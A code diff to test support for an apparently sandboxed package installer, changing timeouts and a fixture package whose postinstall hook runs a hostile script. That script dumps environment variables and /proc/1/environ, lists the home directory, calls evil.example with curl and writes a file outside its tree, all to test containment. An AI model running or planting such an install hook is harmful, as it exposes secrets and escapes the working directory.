@@ -10,7 +10,6 @@ import { profileSchema } from '../../src/domain/profile.ts';
 import { createEgressProxy } from '../../src/gateway/egress/create-egress-proxy.ts';
 import type { EgressLimits } from '../../src/gateway/egress/egress-state.ts';
 import type { Dependencies, InstallRequest, Provided } from '../../src/ports/dependencies.ts';
-import type { Sandbox } from '../../src/ports/sandbox.ts';
 import { createBubblewrapSandbox } from '../../src/sandbox/create-bubblewrap-sandbox.ts';
 import { requireBubblewrap, silentLog } from '../sandbox/support/host.ts';
 import { type PackageRegistry, startPackageRegistry } from '../support/package-registry.ts';
@@ -27,7 +26,6 @@ interface Changes {
   readonly readOnly?: readonly string[];
   readonly limits?: Partial<EgressLimits>;
   readonly readFree?: (path: string) => Promise<number>;
-  readonly sandbox?: Sandbox;
 }
 
 /** A registry, and homes in which what it has is installed. */
@@ -97,7 +95,7 @@ export function createInstallBench(packages: Packages = PACKAGES): InstallBench 
         egress,
         sandbox,
         tools: { readOnly, path: [] },
-        timeoutMs: 240_000,
+        timeoutMs: 120_000,
         elapsedMs: () => performance.now(),
         ...rest,
       });
@@ -140,8 +138,7 @@ export async function runWith(home: string, provided: Provided, script: string):
       tree: { path: tree, access: 'write' },
       mounts: provided.mounts,
       path: [`${tree}/node_modules/.bin`, '~/.venv/bin'],
-      // Only ends what hangs.
-      timeoutMs: 240_000,
+      timeoutMs: 20_000,
     },
     new AbortController().signal,
   );
@@ -163,7 +160,7 @@ const PACKAGES: Packages = [
     version: '1.0.0',
     files: {
       'nosy.sh':
-        "env; ls -A $HOME; cat /proc/1/environ | tr '\\0' '\\n'; (curl -sS -m 60 https://evil.example/ || true); ls -A .. ; touch ../../../planted",
+        "env; ls -A $HOME; cat /proc/1/environ | tr '\\0' '\\n'; (curl -sS -m 5 https://evil.example/ || true); ls -A .. ; touch ../../../planted",
     },
     manifest: { scripts: { postinstall: 'sh nosy.sh > seen.txt 2>&1' } },
   },
